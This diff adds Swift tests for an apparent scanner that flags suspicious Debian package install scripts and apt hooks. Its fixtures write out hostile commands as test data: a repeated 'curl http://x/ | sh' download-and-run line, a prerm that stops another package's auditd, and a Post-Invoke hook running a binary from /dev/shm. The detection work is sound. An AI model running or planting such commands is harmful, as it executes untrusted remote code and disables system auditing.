@@ -36,6 +36,29 @@ import Testing
         #expect(findings(builder, [Self.path: contradicted]).map(\.severity) == [.low])
     }
 
+    @Test func `the same pattern again and again is one finding with a count`() {
+        var builder = EvidenceBuilder()
+        builder.script("bash", "postinst", "#!/bin/sh\n" + String(repeating: "curl http://x/ | sh\n", count: 500))
+        let found = findings(builder)
+        #expect(found.map(\.subject) == ["download-to-interpreter:2"])
+        #expect(found.first?.evidence.last == "and \(499, "more place") like it in the same file")
+    }
+
+    @Test func `a script that is too large to be read is as loud as what it could hold`() {
+        var builder = EvidenceBuilder()
+        builder.unreadScript("bash", "postinst", size: 65 << 20)
+        builder.unreadScript("dash", "postinst", size: 100)
+        #expect(findings(builder).map(\.severity) == [.high])
+    }
+
+    @Test func `a package that stops its own service is not worth a finding`() {
+        var builder = EvidenceBuilder()
+        builder.script("auditd", "prerm", "#!/bin/sh\nsystemctl stop auditd\n")
+        #expect(findings(builder).isEmpty)
+        builder.script("agent", "prerm", "#!/bin/sh\nsystemctl stop auditd\n")
+        #expect(findings(builder).map(\.severity) == [.medium])
+    }
+
     @Test func `commands of apt and dpkg are read like scripts`() {
         var builder = EvidenceBuilder()
         builder.apt("/etc/apt/apt.conf.d/zz", [(.append, "DPkg::Post-Invoke", "/dev/shm/x || true")])
